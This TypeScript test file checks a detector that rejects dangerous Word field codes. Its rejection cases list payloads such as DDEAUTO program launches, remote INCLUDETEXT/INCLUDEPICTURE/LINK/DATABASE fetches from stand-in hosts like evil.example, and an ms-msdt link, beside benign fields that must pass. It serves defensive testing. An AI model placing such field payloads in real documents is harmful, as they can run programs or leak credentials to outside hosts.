import { expect, test } from 'vitest'
import { checkFields } from './word-fields.ts'

const field = (instruction: string) => `\x13${instruction}\x14result\x15`

test.each([
  ['active', 'DDEAUTO c:\\\\program.exe "/k topic"'],
  ['active', '"dde" program "/c topic"'],
  ['remote', 'INCLUDETEXT "\\\\\\\\evil.example\\\\x.doc"'],
  ['remote', 'INCLUDEPICTURE "//evil/x.png" \\d'],
  ['remote', 'INCLUDEPICTURE "file:///%5C%5Cevil/x.png"'],
  ['remote', 'INCLUDEPICTURE "ldap://evil.example/x"'],
  ['remote', 'LINK Word.Document.8 "https://evil.example/x.doc"'],
  ['remote', 'DATABASE \\c "Data Source=\\\\evil\\x.mdb"'],
  ['remote', 'HYPERLINK \\o "a hint" "\\\\evil.example\\x"'],
  ['active', 'HYPERLINK "ms-msdt:/id" \\t "_blank"'],
])('a field is refused as %s: %s', (finding, instruction) => {
  const text = `Mira ${field(` ${instruction} `)}`
  expect(() => checkFields(text)).toThrow(expect.objectContaining({ finding }))
})

test.each([
  'PAGE',
  'HYPERLINK "https://mira.example"',
  'HYPERLINK \\l "experience" \\o "shell: what I know"',
  'INCLUDEPICTURE "https://mira.example/photo.jpg"',
  'INCLUDEPICTURE "C:\\\\Users\\\\Mira\\\\photo.jpg"',
  'INCLUDEPICTURE "file:////Users/mira/photo.jpg" \\* MERGEFORMAT \\d',
  'LINK Excel.Sheet.12 "C:\\\\Users\\\\a b.xlsx" R1C1:R2C2 \\a',
])('a field is accepted: %s', (instruction) => {
  expect(() => checkFields(field(` ${instruction} `))).not.toThrow()
})
